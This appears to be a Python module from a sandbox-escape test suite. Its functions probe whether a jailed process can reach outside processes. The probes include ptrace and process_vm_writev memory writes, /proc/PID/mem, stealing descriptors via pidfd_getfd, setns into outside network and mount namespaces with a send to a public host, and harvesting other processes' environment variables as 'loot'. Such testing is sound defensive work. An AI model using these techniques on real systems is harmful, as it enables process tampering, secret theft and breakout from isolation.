"""Out through other processes: their memory, descriptors, namespaces, and signals to them."""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import socket
import struct
from collections.abc import Iterator
from typing import Any

from netns.escapes.programs.calls import LIBC, call, checked
from netns.escapes.task import Task

_ATTACH, _DETACH, _POKE = 16, 17, 5  # ptrace(2)


def _victim(task: Task) -> dict[str, Any]:
    """The stand-in outside that runs as this user; refuses to take a process inside for it."""
    victim: dict[str, Any] = task.world["victims"][str(os.getuid())]
    with contextlib.suppress(OSError), open(f"/proc/{victim['pid']}/comm") as name:
        if name.read().strip() != victim["name"]:
            raise ProcessLookupError(3, "that number is another process here")
    return victim


def _place(task: Task, victim: dict[str, Any]) -> int:
    """Address in the other's memory that this attempt writes to."""
    return int(victim["address"]) + 64 * int(task.args["slot"])


def _others() -> Iterator[int]:
    """Every process in sight but this one and its parents."""
    own = {os.getpid(), os.getppid()}
    for name in os.listdir("/proc"):
        if name.isdecimal() and int(name) not in own:
            yield int(name)


def send_signal(task: Task) -> str:
    """Send a signal by number of process."""
    os.kill(_victim(task)["pid"], task.signal)
    return "sent"


def send_signal_by_handle(task: Task) -> str:
    """Send a signal through a pidfd."""
    signal.pidfd_send_signal(os.pidfd_open(_victim(task)["pid"]), task.signal)
    return "sent"


def signal_named(task: Task) -> str:
    """Send a signal to every process that bears our names."""
    ours, sent = task.args["names"], 0
    for pid in _others():
        with contextlib.suppress(OSError):
            with open(f"/proc/{pid}/comm") as file:
                name = file.read().strip()
            if name in ours and pid != 1:
                os.kill(pid, task.signal)
                sent += 1
    return f"{sent} found"


def signal_group(task: Task) -> str:
    """Send a signal to the process group of the process outside."""
    os.killpg(_victim(task)["group"], task.signal)
    return "sent"


def trace(task: Task) -> str:
    """Attach to a process and write into its memory (ptrace(2))."""
    victim = _victim(task)
    LIBC.ptrace.argtypes = [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
    LIBC.ptrace.restype = ctypes.c_long
    pid, address = victim["pid"], _place(task, victim)
    checked(LIBC.ptrace(_ATTACH, pid, None, None), "ptrace")
    os.waitpid(pid, 0)
    text = task.nonce.ljust(-(-len(task.nonce) // 8) * 8, b"\0")
    for at in range(0, len(text), 8):
        word = struct.unpack_from("=Q", text, at)[0]
        checked(LIBC.ptrace(_POKE, pid, address + at, word), "ptrace")
    checked(LIBC.ptrace(_DETACH, pid, None, None), "ptrace")
    return "written"


class _Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def write_memory(task: Task) -> str:
    """process_vm_writev(2)."""
    victim = _victim(task)
    text = ctypes.create_string_buffer(task.nonce, len(task.nonce))
    ours = _Vector(ctypes.addressof(text), len(task.nonce))
    theirs = _Vector(_place(task, victim), len(task.nonce))
    pid = victim["pid"]
    call("process_vm_writev", pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return "written"


def read_memory(task: Task) -> str:
    """process_vm_readv(2)."""
    victim = _victim(task)
    text = ctypes.create_string_buffer(64)
    ours, theirs = _Vector(ctypes.addressof(text), 64), _Vector(victim["secret_address"], 64)
    pid = victim["pid"]
    call("process_vm_readv", pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
    return task.took(text.raw)


def memory_file(task: Task) -> str:
    """/proc/PID/mem."""
    victim = _victim(task)
    with open(f"/proc/{victim['pid']}/mem", "r+b", buffering=0) as file:
        file.seek(_place(task, victim))
        file.write(task.nonce)
    return "written"


def take_descriptor(task: Task) -> str:
    """pidfd_getfd(2)."""
    victim = _victim(task)
    handle = os.pidfd_open(victim["pid"])
    os.write(call("pidfd_getfd", handle, victim["door"], 0), task.nonce)
    return "written"


def open_descriptor(task: Task) -> str:
    """/proc/PID/fd/N."""
    victim = _victim(task)
    end = os.open(f"/proc/{victim['pid']}/fd/{victim['door']}", os.O_WRONLY | os.O_NONBLOCK)
    os.write(end, task.nonce)
    return "written"


def through_root(task: Task) -> str:
    """/proc/PID/root and cwd lead into the other's file system."""
    victim, saw = _victim(task), "no other process"
    for pid in (victim["pid"], 1, *_others()):
        path = f"/proc/{pid}/root{task.world['drop']}/root-{task.nonce.decode()}"
        try:
            with open(path, "wb") as file:
                file.write(task.nonce)
        except OSError as error:
            saw = os.strerror(error.errno or 0)
        else:
            return "written"
    return saw


def read_environment(task: Task) -> str:
    """/proc/*/environ and cmdline: secrets of others."""
    loot = b""
    for pid in (*_others(), _victim(task)["pid"]):
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
                loot += file.read(8192)
    return task.took(loot)


def enter_network(task: Task) -> str:
    """setns(2) into the network of a process outside, then send."""
    saw = "no other process"
    for pid in (_victim(task)["pid"], 1):
        try:
            handle = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
            checked(LIBC.setns(handle, 0x40000000), "setns")
        except OSError as error:
            saw = os.strerror(error.errno or 0)
            continue
        if os.stat("/proc/self/ns/net").st_ino != task.world["network"]:
            saw = "entered a network of the jail's own"
            continue
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
            end.sendto(task.nonce, (task.world["public4"], 4444))
        return "entered and sent"
    return saw


def enter_mounts(task: Task) -> str:
    """setns(2) into the mounts of a process outside, then write a file there."""
    handle = os.open(f"/proc/{_victim(task)['pid']}/ns/mnt", os.O_RDONLY)
    checked(LIBC.unshare(0x200), "unshare")  # CLONE_FS, which setns asks for
    checked(LIBC.setns(handle, 0x20000), "setns")
    with open(f"{task.world['drop']}/mounts-{task.nonce.decode()}", "wb") as file:
        file.write(task.nonce)
    return "entered and written"


def first_process(task: Task) -> str:
    """What the jail's own first process holds: memory, descriptors, root."""
    got: list[str] = []
    for name in ("mem", "environ", "maps"):
        with contextlib.suppress(OSError), open(f"/proc/1/{name}", "rb") as file:
            if name == "mem" or file.read(100):
                got.append(name)
    with contextlib.suppress(OSError):
        for number in os.listdir("/proc/1/fd"):
            kind = os.readlink(f"/proc/1/fd/{number}")
            if kind.startswith("socket:"):
                got.append(f"descriptor {number}: a socket")
    sockets = [each for each in got if "socket" in each]
    if sockets:
        return task.gain("; ".join(sockets))
    return f"no socket; readable: {', '.join(got) or 'nothing'}"


def privileged_helper(task: Task) -> str:
    """A set-user-id copy of Python: is it root?"""
    return _helper(task, task.world["setuid"])


def capable_helper(task: Task) -> str:
    """A copy of Python with file capabilities: has it any?"""
    return _helper(task, task.world["capable"])


def _helper(task: Task, path: str) -> str:
    code = (
        "import os\n"
        "caps = [l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')][0]\n"
        "print(os.geteuid(), int(caps, 16))"
    )
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        os.dup2(write_end, 1)
        with contextlib.suppress(OSError):
            os.execv(path, [path, "-I", "-S", "-c", code])  # noqa: S606
        os._exit(127)
    os.close(write_end)
    with open(read_end) as answer:
        words = answer.read().split()
    if len(words) != 2:
        return "it cannot be executed"
    powerful = words[1] != "0" or (words[0] == "0" and os.getuid() != 0)
    saw = f"euid {words[0]}, capabilities {int(words[1]):x}"
    return task.gain(saw) if powerful else saw


def limits_of_others(task: Task) -> str:
    """prlimit(2) on a process outside: to starve it."""
    import resource

    pid = _victim(task)["pid"]
    soft, hard = resource.prlimit(pid, resource.RLIMIT_NOFILE)
    resource.prlimit(pid, resource.RLIMIT_NOFILE, (soft, hard))
    return task.gain("set")
